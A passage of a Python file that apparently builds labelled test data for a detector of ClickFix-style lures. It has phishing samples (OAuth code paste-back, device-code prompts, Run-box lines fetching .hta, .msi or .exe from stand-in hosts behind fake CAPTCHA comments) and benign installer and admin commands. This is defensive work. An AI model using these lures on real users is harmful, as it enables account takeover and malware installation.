    "http://localhost:51244/?code=0.AXEAq8Vd1R3mT0qk5yLf2Hn9cBQ7bV1fS0Gk9mXwPz-AbCUAAA.AgABBAIAAAApTwJmzXqdR4BN2miheQMYAgDs_wUA9P9kE7vQm&state=Vx8tQ2LpYr&session_state=5f1e0a7c-44d2-4c9b-8e0a-2d19b4c7e601",
    expect="flagged",
)
L.lure(
    "consentfix",
    UNK,
    MS,
    "http://localhost:8400/redirect?code=1.AVgAw2k9Rr4_WkCqk0aB1xYz7Q4HjZ3tG2mQ8uVn0bKc9AAA&client_info=eyJ1aWQiOiIxIn0&state=QkR4&session_state=9c2c1b0a-ff31-4d1a-9a80-6b5f0e2d7a13",
    expect="flagged",
)
L.lure(
    "consentfix",
    UNK,
    TEAMS,
    "http://127.0.0.1:37119/callback?code=0.AUIA8Z4hLq2Wc0u9vPjNfR1tY6kD3mB7xZ0QaS2eWq-Ur4ABAA&state=teams-auth&session_state=0b7f7d6e-9a31-4c2e-bd10-3f7ec2ad5c90",
    expect="flagged",
)
L.lure(
    "consentfix",
    UNK,
    CONSENT,
    "Step 3 of 3: copy the whole address from your browser bar and paste it below to finish linking your account:\nhttp://localhost:44321/?code=0.AXoAmL4pQx9nS02f7tKcYhB1wZ5vR8eN3aT6uJ0kLiPq-DcAAA&state=link&session_state=e2a91c40-7b6d-4f08-8b35-1c0d9e7f2a64",
    expect="flagged",
)
L.lure(
    "consentfix",
    UNK,
    NOTION,
    "http://localhost:3000/auth/callback?code=4/0AVG7fiQk2dPz9Lm-xY1vT8sR3nB6cQ0wE5uJ7hK2gF9aD&scope=https://www.googleapis.com/auth/drive%20https://www.googleapis.com/auth/gmail.readonly&authuser=0&prompt=consent",
    expect="flagged",
)
L.lure(
    "device-code",
    UNK,
    MS,
    "To finish verifying your Microsoft 365 mailbox, open https://microsoft.com/devicelogin and enter the code K7QM-2XPD. This keeps your account from being suspended.",
    expect="flagged",
)
L.lure(
    "device-code",
    UNK,
    TEAMS,
    "Your Teams meeting requires authentication. Go to https://microsoft.com/devicelogin, enter code HBZ4RT9WQ and sign in with your work account to join.",
    expect="flagged",
)
L.lure(
    "device-code",
    UNK,
    GITHUB,
    "Security review required: visit https://github.com/login/device and enter 8F2C-71KD to confirm you are the repository owner. Unconfirmed accounts are locked in 1 hour.",
    expect="flagged",
)
L.lure(
    "device-code",
    UNK,
    DOCU,
    "Secure document access: enter the code QW3P-9ZKM at https://microsoft.com/devicelogin to open the envelope from Finance. Code expires in 15 minutes.",
    expect="flagged",
)
L.lure(
    "url-verify-tail",
    RUN,
    CF,
    "https://wexcombe.test/d/Verify.hta"
    + pad(50)
    + "# \u2705 I am not a robot - Cloudflare Ray ID: 91a7b2",
)
L.lure(
    "url-verify-tail",
    RUN,
    GCAP,
    "\\\\haddington.example@SSL\\check\\captcha.bat   # I'm not a robot - reCAPTCHA ID 55102",
)
L.lure(
    "url-verify-tail",
    RUN,
    CF2,
    "https://tollbridge.invalid/cf/Validation.msi"
    + pad(40, NBSP)
    + "# Verify you are human \u2714",
)
L.lure(
    "url-verify-tail",
    RUN,
    WP8,
    "http://192.0.2.176/secure/human-check.exe   # \u2611 Human verification complete, press Enter",
)
L.lure(
    "url-verify-tail",
    EXP,
    ODRIVE,
    "\\\\sandwell-docs.test@SSL\\DavWWWRoot\\Invoice.pdf.lnk"
    + pad(60)
    + "# C:\\Finance\\Invoice.pdf",
)
L.lure(
    "url-verify-tail",
    RUN,
    MEET,
    "https://meetfix-drv.example/AudioDriver.vbs   # Google Meet: microphone driver check - press Enter",
)


def lure_rows() -> list[dict[str, str]]:
    return kit.lure_rows(PREFIX, L)


# ==============================================================================================
# Benign texts
# ==============================================================================================

B: list[kit.Benign] = []


def ok(kind: str, target: str, source: str | None, text: str) -> None:
    B.append((kind, target, source, text))


# ----------------------------------------------------------------------------------------------
# Installers copied from their own project's page (real projects' documented install lines, found
# with find_string/search over public README files; none of these projects is in sets 1-19)
# ----------------------------------------------------------------------------------------------

GH = "https://github.com/"
RAW = "https://raw.githubusercontent.com/"
OWN_PAGE = [
    ("github/pdca-kit", None, "pipx install git+https://github.com/github/pdca-kit.git"),
    ("Pondsiders/Frobozz", None, "uv tool install git+https://github.com/Pondsiders/Frobozz"),
    ("jvogan/yt-agent", None, "uv tool install git+https://github.com/jvogan/yt-agent"),
    ("aiken884/RemaGraph", None, "uv tool install git+https://github.com/aiken884/RemaGraph.git"),
    (
        "alexblakes/aggv3_igv",
        None,
        "uv tool install git+https://github.com/alexblakes/aggv3_igv.git",
    ),
    ("tchoffman/chroma-cube", None, "uv tool install git+https://github.com/tchoffman/chroma-cube"),
    (
        "sungurerdim/ClaudeCodeOptimizer",
        None,
        "pipx install git+https://github.com/sungurerdim/ClaudeCodeOptimizer.git",
    ),
    (
        "safurrier/claude-code-autoyes",
        None,
        "uv tool install git+https://github.com/safurrier/claude-code-autoyes.git",
    ),
    ("budmonde/dotfiles", None, "irm " + RAW + "budmonde/dotfiles/main/bootstrap.ps1 | iex"),
    (
        "bbabcock1990/Animated-Desktop-Wall-Papers-Helper",
        None,
        "irm " + RAW + "bbabcock1990/Animated-Desktop-Wall-Papers-Helper/main/install.ps1 | iex",
    ),
    (
        "danielleit241/hs-skills",
        None,
        "irm " + RAW + "danielleit241/hs-skills/main/install.ps1 | iex",
    ),
    ("thealxlabs/conductor", None, "irm " + RAW + "thealxlabs/conductor/main/install.ps1 | iex"),
    (
        "flipbit03/cuqueclicker",
        None,
        "irm " + RAW + "flipbit03/cuqueclicker/main/install.ps1 | iex",
    ),
    (
        "looyun/ascii-render",
        None,
        "bash <(curl -sL " + RAW + "looyun/ascii-render/master/scripts/demo.sh)",
    ),
    (
        "Sakimmoe/Surge-Config",
        None,
        "bash <(curl -sL " + RAW + "Sakimmoe/Surge-Config/main/Snell/snell)",
    ),
    (
        "nowledge-co/community",
        "/tree/main/nowledge-mem-hermes",
        "bash <(curl -sL " + RAW + "nowledge-co/community/main/nowledge-mem-hermes/setup.sh)",
    ),
    (
        "arl/prepare-commit-msg",
        None,
        "go install github.com/arl/prepare-commit-msg@latest\nln -s $(which prepare-commit-msg) .git/hooks/prepare-commit-msg",
    ),
    (
        "ShopPrentice/shopprentice",
        None,
        "curl -sSL " + RAW + "ShopPrentice/shopprentice/main/install.sh | bash -s -- --claude-code",
    ),
    (
        "azamat1ch/yt-summary",
        None,
        "curl -sSL " + RAW + "azamat1ch/yt-summary/main/install.sh | bash -s -- --global",
    ),
    (
        "benwu95/ai-assistant",
        None,
        "curl -fsSL " + RAW + "benwu95/ai-assistant/main/install.sh | bash -s -- claude codex",
    ),
    (
        "Boom5426/Nature-Paper-Skills",
        None,
        "curl -fsSL "
        + RAW
        + "Boom5426/Nature-Paper-Skills/main/install.sh | bash -s -- --agent codex --figure",
    ),
    (
        "xuges/remote-shell",
        None,
        "curl -fsSL " + RAW + "xuges/remote-shell/main/install.sh | bash -s -- --agent opencode",
    ),
    (
        "PeonPing/peon-ping",
        None,
        "curl -fsSL " + RAW + "PeonPing/peon-ping/main/install.sh | bash -s -- --packs=peon,glados",
    ),
    (
        "Arize-ai/arize-agent-kit",
        None,
        "curl -sSL " + RAW + "Arize-ai/arize-agent-kit/main/install.sh | bash -s -- copilot",
    ),
    (
        "Yiklek/dsh-web-profile",
        None,
        "curl -fsSL " + RAW + "Yiklek/dsh-web-profile/main/install.sh | bash",
    ),
    (
        "LingJingAI-Labs/anime-workbench-cli",
        None,
        "npm install -g github:LingJingAI-Labs/anime-workbench-cli",
    ),
    (
        "MONSTER13LIAR/Supermemory-Harness",
        None,
        "npm install -g github:MONSTER13LIAR/Supermemory-Harness\nsmctl install",
    ),
    (
        "mizuirorivi/slidev-overflow-checker",
        None,
        "npm install -g github:mizuirorivi/slidev-overflow-checker",
    ),
    ("kurom1ii/ossinsight-cli", None, "npm install -g github:kurom1ii/ossinsight-cli"),
    ("808kalli/cli-timer", None, "npm install -g github:808kalli/cli-timer"),
    (
        "Tessellate-Studio/forge",
        None,
        "npm install -g github:Tessellate-Studio/forge   # gives the `rubric` CLI (+ standards/bp)",
    ),
    ("cgize/claude-mcp-think-tool", None, "npm install -g github:cgize/claude-mcp-think-tool"),
    (
        "jmarrmd/homebridge-enphase-envoy",
        None,
        "sudo npm install -g github:jmarrmd/homebridge-enphase-envoy",
    ),
    ("le0-VV/miniviking", None, "brew install --HEAD le0-VV/miniviking/miniviking"),
    (
        "alejakun/dotfiles-win",
        None,
        "iwr -useb " + RAW + "alejakun/dotfiles-win/master/bootstrap-infra.ps1 | iex",
    ),
    (
        "edificeio/edifice-react-boilerplate",
        None,
        "npx degit edificeio/edifice-react-boilerplate . --force",
    ),
    (
        "stuartxu2/OrderBee-Skill",
        None,
        "npx degit stuartxu2/OrderBee-Skill/skills/orderbee ~/.claude/skills/orderbee",
    ),
    ("kodepandai/lunox", None, "npx degit kodepandai/lunox project-name"),
    (
        "ishamf/typed-home-assistant-template-node",
        None,
        "npx degit https://github.com/ishamf/typed-home-assistant-template-node project-name",
    ),
    (
        "mattjennings/svelte-phaser",
        None,
        "npx degit mattjennings/svelte-phaser/templates/svite my-first-game\ncd my-first-game\nnpm install\nnpm run dev",
    ),
    (
        "rutynka/helper-bar-board",
        None,
        "npx degit rutynka/helper-bar-board#main helper-bar-board\ncd helper-bar-board\nyarn install",
    ),
    (
        "jycouet/firstly",
        None,
        "npx degit jycouet/firstly/packages/firstly/src/boutique/auth src/modules/auth",
    ),
    ("mattmock/mfw-starter", None, "npx degit mattmock/mfw-starter my-app\ncd my-app\nnpm install"),
    ("tailscale/tailcat", None, "nix profile install github:tailscale/tailcat"),
    ("poelzi/musicCommander", None, "nix run github:poelzi/musicCommander -- --help"),
    ("Farhan291/hyprwatch", None, "nix profile install github:Farhan291/hyprwatch"),
    ("bolens/millenium-helpers", None, "nix profile install github:bolens/millenium-helpers"),
    ("olafkfreund/gnome-quick-web-apps", None, "nix run github:olafkfreund/gnome-quick-web-apps"),
    ("OpticDiff/code-reviewer", None, "brew install OpticDiff/tap/code-reviewer"),
    (
        "vdesjardins/terraform-module-versions",
        None,
        "nix run github:vdesjardins/terraform-module-versions -- show ./terraform",
    ),
    ("Nastwinns/hawser", None, "brew install nastwinns/tap/hawser"),
    (
        "epangelias/paracelsus",
        None,
        "deno install -Agrf " + RAW + "epangelias/paracelsus/refs/heads/main/tasks/paracelsus.ts",
    ),
    (
        "NicholasACTran/triceratop",
        None,
        "deno install -Afq --unstable " + RAW + "NicholasACTran/triceratop/master/triceratop.ts",
    ),
    (
        "mizchi/project-checklist",
        None,
        "deno install -Afg --name pcheck jsr:@mizchi/project-checklist/cli",
    ),
    (
        "lambdalisue/probitas",
        None,
        "deno install -A -g -f -n probitas jsr:@lambdalisue/probitas/cli",
    ),
    ("takemo101/taskp", None, "bun install -g github:takemo101/taskp"),
    ("garrytan/gbrain", None, "bun install -g github:garrytan/gbrain"),
    ("tobi/qmd", None, "bun install -g github:tobi/qmd"),
    ("stefanprodan/cctop", None, "bun install -g github:stefanprodan/cctop#v0.8.0"),
    ("samhvw8/asdf-goose", None, "asdf plugin add goose https://github.com/samhvw8/asdf-goose.git"),
    (
        "AllenCellModeling/napari-aicsimageio",
        None,
        "pip install git+https://github.com/AllenCellModeling/napari-aicsimageio.git",
    ),
    (
        "phospho-app/phosphobot",
        None,
        "curl -fsSL " + RAW + "phospho-app/phosphobot/main/install.sh | sudo bash",
    ),
    (
        "lmsowner/linuxmadesanerelease",
        None,
        "curl -fsSL " + RAW + "lmsowner/linuxmadesanerelease/main/install.sh | sudo bash",
    ),
    (
        "hupe1980/devplane",
        "/releases",
        "curl -LsSf https://github.com/hupe1980/devplane/releases/latest/download/devplane-installer.sh | sh",
    ),
    (
        "wurli/jet",
        "/releases",
        "curl -LsSf https://github.com/wurli/jet/releases/latest/download/jet-installer.sh | sh",
    ),
    (
        "AndlerRL/agentry",
        None,
        "curl -LsSf https://github.com/AndlerRL/agentry/releases/latest/download/agentry-tui-installer.sh | sh",
    ),
    (
        "samduchaine/kindly-guard",
        None,
        "curl -LsSf https://github.com/samduchaine/kindly-guard/releases/latest/download/kindly-guard-installer.sh | sh",
    ),
]
for repo, sub, text in OWN_PAGE:
    ok(OWN, TERM, GH + repo + (sub or ""), text)
# a few projects document a second way in, on the same page
OWN_PAGE_2 = [
    (
        "phospho-app/phosphobot",
        'powershell -ExecutionPolicy ByPass -Command "irm '
        + RAW
        + 'phospho-app/phosphobot/main/install.ps1 | iex"',
    ),
    (
        "sungurerdim/ClaudeCodeOptimizer",
        "uv tool install git+https://github.com/sungurerdim/ClaudeCodeOptimizer.git\ncco-setup",
    ),
    (
        "Pondsiders/Frobozz",
        "uvx --from git+https://github.com/Pondsiders/Frobozz frobozz list-games",
    ),
    ("tailscale/tailcat", "nix run github:tailscale/tailcat"),
    (
        "samduchaine/kindly-guard",
        "irm https://github.com/samduchaine/kindly-guard/releases/latest/download/kindly-guard-installer.ps1 | iex",
    ),
    ("OpticDiff/code-reviewer", "nix profile install github:OpticDiff/code-reviewer"),
    (
        "PeonPing/peon-ping",
        "curl -fsSL " + RAW + "PeonPing/peon-ping/main/install.sh | bash -s -- --all",
    ),
    (
        "xuges/remote-shell",
        "curl -fsSL " + RAW + "xuges/remote-shell/main/install.sh | bash -s -- --agent codex",
    ),
]
for repo, text in OWN_PAGE_2:
    ok(OWN, TERM, GH + repo, text)

# the same kind of line quoted by a tutorial or a colleague (not the project's page)
TUTORIAL = [
    (
        "https://dev.to/hannah_k/my-2026-terminal-setup-4k2p",
        "nix profile install github:tailscale/tailcat",
    ),
    (
        "https://medium.com/@rjlim/trying-bun-global-installs-from-github-9a1c",
        "bun install -g github:tobi/qmd",
    ),
    (
        "https://www.reddit.com/r/ClaudeAI/comments/1q2r3s/autoyes_tool/",
        "uv tool install git+https://github.com/safurrier/claude-code-autoyes.git",
    ),
    (
        "https://blog.nadiaruiz.dev/posts/deno-tools",
        "deno install -Afg --name pcheck jsr:@mizchi/project-checklist/cli",
    ),
    ("https://zenn.dev/kei_t/articles/degit-templates", "npx degit kodepandai/lunox my-lunox-app"),
    (
        "https://stackoverflow.com/questions/79221045/install-a-python-cli-from-a-git-repo",
        "pipx install git+https://github.com/github/pdca-kit.git@v1.2.0",
    ),
    (
        "https://gist.github.com/mhallberg/3f0e1c2b9d",
        "curl -LsSf https://github.com/wurli/jet/releases/latest/download/jet-installer.sh | sh",
    ),
    (
        "https://discourse.nixos.org/t/hyprland-tools-roundup/51022",
        "nix profile install github:Farhan291/hyprwatch",
    ),
]
for page, text in TUTORIAL:
    ok("installer-tutorial", TERM, page, text)

# ----------------------------------------------------------------------------------------------
# Run box and Explorer address bar: how-to pages whose entries are names, paths, shell: and
# ms-settings: (benign by the spec), and entries typed with no page
# ----------------------------------------------------------------------------------------------

RUNBOX_HOWTO = [
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/perfmon",
        "perfmon.msc",
    ),
    ("https://www.howtogeek.com/windows-run-commands-you-should-know/", "rsop.msc"),
    ("https://www.howtogeek.com/windows-run-commands-you-should-know/", "comexp.msc"),
    ("https://www.tenforums.com/tutorials/display-settings", "desk.cpl"),
    ("https://www.elevenforum.com/t/open-cookies-folder.4410/", "shell:Cookies"),
    ("https://www.elevenforum.com/t/open-saved-games-folder.4412/", "shell:SavedGames"),
    ("https://www.elevenforum.com/t/credential-manager.2290/", "shell:CredentialManager"),
    ("https://www.tenforums.com/tutorials/user-profile-folder", "shell:Profile"),
    ("https://www.tenforums.com/tutorials/network-connections", "shell:ConnectionsFolder"),
    ("https://www.tenforums.com/tutorials/browsing-history", "shell:History"),
    (
        "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
        "ms-settings:developers",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/apps/develop/launch/launch-settings-app",
        "ms-settings:windowsdefender",
    ),
    (
        "https://support.microsoft.com/en-us/windows/fix-sound-or-audio-problems",
        "ms-settings:sound",
    ),
    (
        "https://support.microsoft.com/en-us/windows/change-mouse-settings",
        "ms-settings:mousetouchpad",
    ),
    (
        "https://support.microsoft.com/en-us/windows/manage-the-input-and-display-language",
        "ms-settings:regionlanguage",
    ),
    (
        "https://support.microsoft.com/en-us/windows/how-to-set-your-time-and-time-zone",
        "ms-settings:dateandtime",
    ),
    ("https://support.microsoft.com/en-us/windows/power-settings", "ms-settings:powersleep"),
    (
        "https://support.microsoft.com/en-us/windows/recovery-options-in-windows",
        "ms-settings:recovery",
    ),
    ("https://support.microsoft.com/en-us/windows/activate-windows", "ms-settings:activation"),
    (
        "https://support.microsoft.com/en-us/windows/configure-startup-applications",
        "ms-settings:startupapps",
    ),
    (
        "https://support.microsoft.com/en-us/windows/manage-app-permissions-for-your-camera",
        "ms-settings:camera",
    ),
    (
        "https://support.microsoft.com/en-us/windows/windows-location-service-and-privacy",
        "ms-settings:privacy-location",
    ),
    ("https://support.microsoft.com/en-us/windows/battery-saver", "ms-settings:batterysaver"),
    (
        "https://support.microsoft.com/en-us/windows/change-notification-settings",
        "ms-settings:notifications",
    ),
    ("https://support.lenovo.com/us/en/solutions/ht511203", "ms-settings:network-wifi"),
    (
        "https://www.thewindowsclub.com/clear-windows-update-cache",
        "%windir%\\SoftwareDistribution\\Download",
    ),
    (
        "https://answers.microsoft.com/en-us/windows/forum/all/where-are-crash-dumps",
        "%localappdata%\\CrashDumps",
    ),
    (
        "https://support.microsoft.com/en-us/office/excel-startup-folder",
        "%appdata%\\Microsoft\\Excel\\XLSTART",
    ),
]
for page, text in RUNBOX_HOWTO:
    ok("runbox-howto", RUN, page, text)
EXPLORER_HOWTO = [
    (
        "https://learn.microsoft.com/en-us/microsoftteams/troubleshoot/teams-administration/collect-logs",
        "%localappdata%\\Microsoft\\Teams\\logs",
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/deployment/cbs-log",
        "%windir%\\Logs\\CBS",
    ),
    (
        "https://support.zoom.com/hc/en/article?id=zm_kb&sysparm_article=KB0062599",
        "%appdata%\\Zoom\\logs",
    ),
    (
        "https://support.microsoft.com/en-us/office/enable-outlook-logging",
        "%localappdata%\\Temp\\Outlook Logging",
    ),
    ("https://help.obsidian.md/Files+and+folders/How+Obsidian+stores+data", "%appdata%\\obsidian"),
    (
        "https://www.jetbrains.com/help/idea/directories-used-by-the-ide-to-store-settings-caches-plugins-and-logs.html",
        "%localappdata%\\JetBrains",
    ),
    (
        "https://support.microsoft.com/en-us/office/change-your-background-for-microsoft-teams-meetings",
        "%localappdata%\\Packages\\MSTeams_8wekyb3d8bbwe\\LocalCache\\Microsoft\\MSTeams\\Backgrounds\\Uploads",
    ),
    ("https://npp-user-manual.org/docs/session/", "%appdata%\\Notepad++\\backup"),
    ("https://kb.intranet-it.example/finance-share", "\\\\fs01\\Finance\\Reports\\2026"),
    ("https://www.elevenforum.com/t/open-searches-folder.6610/", "shell:Searches"),
    ("https://www.elevenforum.com/t/open-playlists-folder.6612/", "shell:Playlists"),
    ("https://www.elevenforum.com/t/user-program-files.6620/", "shell:UserProgramFiles"),
    ("https://www.tenforums.com/tutorials/windows-folder", "shell:Windows"),
    ("https://www.tenforums.com/tutorials/system32-folder", "shell:System"),
    ("https://www.tenforums.com/tutorials/temporary-internet-files", "shell:Cache"),
    (
        "https://www.thewindowsclub.com/jump-lists-location",
        "%appdata%\\Microsoft\\Windows\\Recent\\AutomaticDestinations",
    ),
]
for page, text in EXPLORER_HOWTO:
    ok("explorer-howto", EXP, page, text)
for text in [
    "wordpad",
    "onenote",
    "msedge",
    "firefox",
    "teams",
    "slack",
    "code",
    "narrator",
    "wmplayer",
    "\\\\printsrv02",
    "https://intranet.contoso.com/timesheets",
    "excel",
    "C:\\Windows\\Prefetch",
]:
    ok("runbox-typed", RUN, None, text)
for text in [
    "D:\\Projects\\2026\\Q1",
    "\\\\nas\\photos\\2025",
    "%userprofile%\\Desktop",
    "C:\\ProgramData",
    "ms-settings:yourinfo",
    "Documents\\Taxes",
    "%localappdata%\\Google\\Chrome\\User Data\\Profile 2",
]:
    ok("explorer-typed", EXP, None, text)

# ----------------------------------------------------------------------------------------------
# Admin PowerShell (terminal), from docs, KB articles, blogs and colleagues
# ----------------------------------------------------------------------------------------------

LEARN = "https://learn.microsoft.com/en-us/powershell/module/"
ADMIN_PS = [
    (
        LEARN + "microsoft.powershell.management/get-service",
        "Get-Service | Where-Object Status -eq 'Stopped' | Sort-Object DisplayName",
    ),
    (
        LEARN + "activedirectory/get-aduser",
        "Get-ADUser -Filter 'Enabled -eq $true' -Properties LastLogonDate | Where-Object LastLogonDate -lt (Get-Date).AddDays(-90) | Select-Object SamAccountName,LastLogonDate",
    ),
    (LEARN + "activedirectory/unlock-adaccount", "Unlock-ADAccount -Identity jmorales"),
    (
        LEARN + "activedirectory/set-adaccountpassword",
        "Set-ADAccountPassword -Identity jmorales -Reset -NewPassword (Read-Host -AsSecureString 'New password')",
    ),
    (
        "https://learn.microsoft.com/en-us/exchange/recipients/mailbox-permissions",
        "Add-MailboxPermission -Identity 'shared.finance@contoso.com' -User 'a.kowalski@contoso.com' -AccessRights FullAccess -InheritanceType All",
    ),
    (
        "https://learn.microsoft.com/en-us/microsoft-365/enterprise/connect-to-exchange-online-powershell",
        "Install-Module -Name ExchangeOnlineManagement -Scope CurrentUser\nConnect-ExchangeOnline -UserPrincipalName it-admin@fabrikam-logistics.onmicrosoft.com -ShowBanner:$false",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/microsoftgraph/installation",
        "Install-Module Microsoft.Graph.Users -Scope CurrentUser -Repository PSGallery -MinimumVersion 2.25.0",
    ),
    (
        "https://learn.microsoft.com/en-us/graph/powershell/get-started",
        "Connect-MgGraph -Scopes 'User.Read.All','Group.ReadWrite.All'\nGet-MgUser -Top 10 | Format-Table DisplayName,UserPrincipalName",
    ),
    (
        LEARN + "microsoft.powershell.management/get-childitem",
        "Get-ChildItem -Path D:\\AppLogs\\Billing -Recurse -Filter *.log | Where-Object LastWriteTime -lt (Get-Date).AddDays(-45) | Remove-Item -WhatIf",
    ),
    (
        LEARN + "netsecurity/new-netfirewallrule",
        "New-NetFirewallRule -DisplayName 'Reporting API 8443' -Direction Inbound -Protocol TCP -LocalPort 8443 -RemoteAddress 10.40.0.0/16 -Action Allow -Profile Domain",
    ),
    (
        LEARN + "nettcpip/test-netconnection",
        "Test-NetConnection -ComputerName sql01.corp.local -Port 1433",
    ),
    (
        LEARN + "dnsclient/resolve-dnsname",
        "Resolve-DnsName -Name _ldap._tcp.dc._msdcs.corp.local -Type SRV",
    ),
    (LEARN + "dnsclient/clear-dnsclientcache", "Clear-DnsClientCache; ipconfig /registerdns"),
    (
        "https://www.pdq.com/powershell/get-ciminstance/",
        "Get-CimInstance -ClassName Win32_OperatingSystem | Select-Object Caption, Version, LastBootUpTime",
    ),
    (
        "https://www.pdq.com/blog/find-installed-software/",
        "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Where-Object DisplayName -like '*Java*' | Select-Object DisplayName, DisplayVersion, InstallDate",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/deployment/update/windows-update-logs",
        "Get-WindowsUpdateLog -LogPath C:\\Temp\\WU-$(hostname).log",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/storage/storage-spaces/",
        "Get-PhysicalDisk | Select-Object FriendlyName, MediaType, HealthStatus, Size",
    ),
    (
        LEARN + "storage/get-volume",
        "Get-Volume | Where-Object {$_.SizeRemaining -lt 10GB} | Format-Table DriveLetter,FileSystemLabel,SizeRemaining",
    ),
    (
        "https://adamtheautomator.com/powershell-remoting/",
        "Enter-PSSession -ComputerName web02 -Credential (Get-Credential CORP\\svc-deploy)",
    ),
    (
        "https://adamtheautomator.com/invoke-command/",
        "Invoke-Command -ComputerName web01,web02,web03 -ScriptBlock { Restart-Service W3SVC }",
    ),
    (
        LEARN + "microsoft.powershell.utility/export-csv",
        "Get-Process | Sort-Object CPU -Descending | Select-Object -First 20 Name,Id,CPU,WS | Export-Csv .\\top-cpu.csv -NoTypeInformation",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/learn/ps101/09-functions",
        "function Get-Uptime { (Get-Date) - (Get-CimInstance Win32_OperatingSystem).LastBootUpTime }",
    ),
    (
        LEARN + "bitlocker/get-bitlockervolume",
        "Get-BitLockerVolume -MountPoint C: | Select-Object -ExpandProperty KeyProtector | Where-Object KeyProtectorType -eq 'RecoveryPassword'",
    ),
    (
        LEARN + "defender/get-mpcomputerstatus",
        "Get-MpComputerStatus | Format-List AMProductVersion, AntivirusSignatureVersion, QuickScanEndTime, IsTamperProtected",
    ),
    (
        LEARN + "defender/update-mpsignature",
        "Update-MpSignature -UpdateSource MicrosoftUpdateServer; Start-MpScan -ScanType CustomScan -ScanPath D:\\Incoming",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/package-manager/winget/upgrade",
        "winget upgrade --all --include-unknown --silent --accept-package-agreements",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/package-manager/winget/install",
        "winget install --id Microsoft.PowerToys -e --source winget",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/wsl/install",
        "wsl --install -d Debian --web-download",
    ),
    (
        "https://learn.microsoft.com/en-us/windows/wsl/basic-commands",
        "wsl --list --verbose\nwsl --set-default-version 2",
    ),
    (
        LEARN + "microsoft.powershell.security/set-executionpolicy",
        "Unblock-File -Path .\\Tools\\Export-MailboxReport.ps1; Get-ExecutionPolicy -Scope Process",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/scripting/install/installing-powershell-on-windows",
        "winget install --id Microsoft.PowerShell.Preview --source winget --scope user",
    ),
    (
        LEARN + "printmanagement/get-printer",
        "Get-Printer | Where-Object PrinterStatus -ne 'Normal' | Select-Object Name, PrinterStatus, PortName",
    ),
    (
        "https://techcommunity.microsoft.com/blog/intunecustomersuccess/",
        "Get-ScheduledTask | Where-Object TaskPath -like '\\Microsoft\\Windows\\EnterpriseMgmt\\*' | Select-Object TaskName, State",
    ),
    (
        "https://learn.microsoft.com/en-us/mem/intune/remote-actions/device-sync",
        "Start-Process -FilePath \"$env:windir\\system32\\deviceenroller.exe\" -ArgumentList '/o','/c'",
    ),
    (
        "https://www.reddit.com/r/sysadmin/comments/1p9x2z/quick_way_to_find_locked_files/",
        "Get-SmbOpenFile | Where-Object Path -like '*Budget_2026.xlsx*' | Close-SmbOpenFile -Force",
    ),
    (
        "https://www.reddit.com/r/PowerShell/comments/1pq4a1/",
        "$cutoff = (Get-Date).AddDays(-14)\nGet-ADComputer -Filter * -Properties LastLogonTimestamp | Where-Object { [DateTime]::FromFileTime($_.LastLogonTimestamp) -lt $cutoff } | Select-Object Name",
    ),
    (
        "https://stackoverflow.com/questions/79018823/powershell-rename-files-by-date",
        "Get-ChildItem *.jpg | Rename-Item -NewName { $_.LastWriteTime.ToString('yyyy-MM-dd_HHmmss') + $_.Extension }",
    ),
    (
        "https://stackoverflow.com/questions/79104457/powershell-json-to-csv",
        "Get-Content .\\users.json -Raw | ConvertFrom-Json | Select-Object id,name,email | Export-Csv users.csv -NoTypeInformation -Encoding UTF8",
    ),
    (
        "https://stackoverflow.com/questions/79150302/measure-folder-size",
        "(Get-ChildItem C:\\Data -Recurse -File | Measure-Object -Property Length -Sum).Sum / 1GB",
    ),
    (
        "https://learn.microsoft.com/en-us/troubleshoot/windows-client/networking/reset-tcp-ip",
        "netsh winsock reset\nnetsh int ip reset\nipconfig /flushdns",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/sfc",
        "sfc /scannow\nDISM /Online /Cleanup-Image /RestoreHealth",
    ),
    (
        "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/gpupdate",
        "gpupdate /target:user /force\ngpresult /h $env:TEMP\\gp-report.html; start $env:TEMP\\gp-report.html",
    ),
    (
        "https://learn.microsoft.com/en-us/azure/azure-resource-manager/management/manage-resource-groups-powershell",
        "Connect-AzAccount\nGet-AzResourceGroup | Where-Object Location -eq 'westeurope' | Select-Object ResourceGroupName",
    ),
    (
        "https://learn.microsoft.com/en-us/azure/virtual-machines/windows/ps-common-ref",
        "Stop-AzVM -ResourceGroupName rg-test-weu -Name vm-build01 -Force",
    ),
    (
        "https://learn.microsoft.com/en-us/sharepoint/dev/declarative-customization/site-design-pnp-provisioning",
        "Install-Module PnP.PowerShell -Scope CurrentUser\nConnect-PnPOnline -Url https://contoso.sharepoint.com/sites/hr -Interactive",
    ),
    (
        "https://learn.microsoft.com/en-us/microsoftteams/teams-powershell-install",
        "Install-Module -Name MicrosoftTeams -Force -AllowClobber\nConnect-MicrosoftTeams",
    ),
    (
        "https://www.powershellgallery.com/packages/PSWindowsUpdate",
        "Install-Module PSWindowsUpdate\nGet-WindowsUpdate -AcceptAll -Install -AutoReboot",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/restart-computer",
        "Restart-Computer -ComputerName kiosk07 -Force -Wait -For PowerShell -Timeout 300",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-restmethod",
        "Invoke-RestMethod -Uri https://api.github.com/repos/PowerShell/PowerShell/releases/latest | Select-Object tag_name, published_at",
    ),
    (
        "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
        "Invoke-WebRequest -Uri https://aka.ms/vs/17/release/vc_redist.x64.exe -OutFile $env:USERPROFILE\\Downloads\\vc_redist.x64.exe",
    ),
    (
        "https://www.reddit.com/r/sysadmin/comments/1pw3c8/",
